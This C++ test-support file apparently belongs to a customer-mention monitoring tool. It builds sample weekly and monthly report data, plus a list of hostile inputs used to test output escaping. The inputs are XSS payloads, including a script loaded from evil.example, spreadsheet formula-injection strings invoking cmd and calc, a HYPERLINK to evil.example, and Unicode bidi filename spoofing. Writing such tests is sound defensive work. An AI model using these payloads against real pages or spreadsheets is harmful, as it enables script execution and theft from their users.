// SPDX-License-Identifier: GPL-3.0-or-later
#include "support/sampleweek.h"

namespace vigie::test {

using namespace Qt::StringLiterals;
using inbox::Disposition;
using report::LeftOut;
using report::Numbers;
using report::Period;

static constexpr qint64 minute = 60'000;

static LeftOut leftOut(const Period &period, int number, const QString &channel, const QString &name,
                       const QString &excerpt)
{
    const qint64 at = period.startMs() + (number * 97 + 9 * 60) % (7 * 24 * 60) * minute;
    const qint64 key = inbox::firstKeyOfSecond(at);
    return {key,     inbox::mentionId(key, number),
            channel, name,
            {},      at,
            excerpt, number % 3 == 1 ? Disposition::Assigned : Disposition::New};
}

Numbers sampleWeek(int left)
{
    Numbers n;
    n.period = *report::periodNamed(u"2026-W47"_s, QTimeZone("Europe/Paris"));
    n.byChannel = {{u"Page Facebook"_s, 48},
                   {u"Avis Google Brest"_s, 31},
                   {u"Instagram"_s, 22},
                   {u"Courriel contact"_s, 14},
                   {u"X"_s, 9},
                   {u"Trustpilot"_s, 6},
                   {u"Téléphone et boutique de la rue de Siam"_s, 2}};
    n.answeredByChannel = {{u"Page Facebook"_s, 41},
                           {u"Avis Google Brest"_s, 26},
                           {u"Instagram"_s, 15},
                           {u"Courriel contact"_s, 14},
                           {u"X"_s, 4},
                           {u"Trustpilot"_s, 1},
                           {u"Téléphone et boutique de la rue de Siam"_s, 2}};
    n.byDay = {21, 24, 18, 27, 19, 16, 7};
    n.answeredByDay = {18, 20, 14, 22, 15, 11, 3};
    // More than the 14 that fit are messages besides.
    const int more = std::max(0, left - 14);
    n.byChannel[u"Page Facebook"_s] += more;
    n.byDay[0] += more;
    n.mentions = 132 + more;
    n.answered = 103;
    n.open = left;
    n.closedWithoutAnswer = n.mentions - n.answered - left;
    n.medianAnswerMs = 134 * minute + 30'000;
    n.p90AnswerMs = (27 * 60 + 12) * minute;
    n.byDisposition = {{Disposition::New, left - left / 3},
                       {Disposition::Assigned, left / 3},
                       {Disposition::Replied, 103},
                       {Disposition::Liked, 12},
                       {Disposition::Hidden, 3},
                       {Disposition::Closed, 14 + more - left}};
    const QStringList names{u"Léa Garçon"_s, u"Yoann Le Bris"_s, u"Martine Floc’h"_s, u"Tom Hargreaves"_s};
    const QStringList channels = n.byChannel.keys();
    const QStringList texts{
        u"Ma commande n’arrive toujours pas, troisième relance et personne ne répond…"_s,
        u"Bonjour, votre borne de la gare est en panne depuis lundi."_s,
        u"Is the Brest shop open on Monday? I phoned twice and nobody picked up, I would like to drop my bike off before work."_s};
    for (int i = 0; i < std::min(left, 200); ++i)
        n.leftOut.append(leftOut(n.period, i, channels[i % channels.size()], names[i % names.size()],
                                 texts[i % texts.size()]));
    std::ranges::sort(n.leftOut, {}, &LeftOut::postedAtMs);
    n.notLooked = {{u"Forum cycliste"_s, std::nullopt, 12},
                   {u"Trustpilot"_s, n.period.startMs() - 3 * 24 * 60 * minute, 9}};
    n.mentionsBefore = 96;
    n.answeredBefore = 70;
    return n;
}

Numbers sampleMonth()
{
    Numbers n = sampleWeek();
    n.period = *report::periodNamed(u"2026-11"_s, QTimeZone("Europe/Paris"));
    n.byDay.clear();
    n.answeredByDay.clear();
    for (qint64 day = 0; day < 30; ++day) {
        n.byDay.append(day < 12 ? 5 : 4);
        n.answeredByDay.append(day < 13 ? 4 : 3);
    }
    return n;
}

QStringList hostileTexts()
{
    return {u"<script>alert('xss')</script>"_s,
            u"\"><img src=x onerror=alert(1)>"_s,
            u"'\"--></style></script><script src=//evil.example/x.js></script>"_s,
            u"<svg/onload=alert(1)>"_s,
            u"javascript:alert(1)"_s,
            u"]]><!--"_s,
            u"&lt;b&gt; &amp; &#x202e;"_s,
            u"\u202egnp.exe\u202c\u2066x\u2069"_s,
            u"=HYPERLINK(\"http://evil.example\",\"click\")"_s,
            u"+1+cmd|' /C calc'!A0"_s,
            u"-2+3"_s,
            u"@SUM(1+1)*cmd|' /C calc'!A0"_s,
            u"\t=1+1"_s,
            u"\r=1+1"_s,
            u"  =1+1"_s,
            u"＝1+1"_s,
            u"a\0b\ufffe\uffff"_s,
            u"line\nbreak, \"quote\""_s,
            u"%1 %2 %n"_s};
}

Numbers hostileWeek()
{
    Numbers n = sampleWeek();
    n.byChannel.clear();
    n.answeredByChannel.clear();
    n.leftOut.clear();
    const QStringList texts = hostileTexts();
    for (qsizetype i = 0; i < texts.size(); ++i) {
        n.byChannel.insert(texts[i], i == 0 ? 132 - 6 * (texts.size() - 1) : 6);
        n.answeredByChannel.insert(texts[i], i == 0 ? 103 - 5 * (texts.size() - 1) : 5);
        n.leftOut.append(leftOut(n.period, static_cast<int>(i), texts[i], texts[i], texts[i]));
    }
    n.notLooked.clear();
    for (const QString &text : texts)
        n.notLooked.append({text, std::nullopt, 8});
    n.open = texts.size();
    n.closedWithoutAnswer = 29 - n.open;
    return n;
}

} // namespace vigie::test
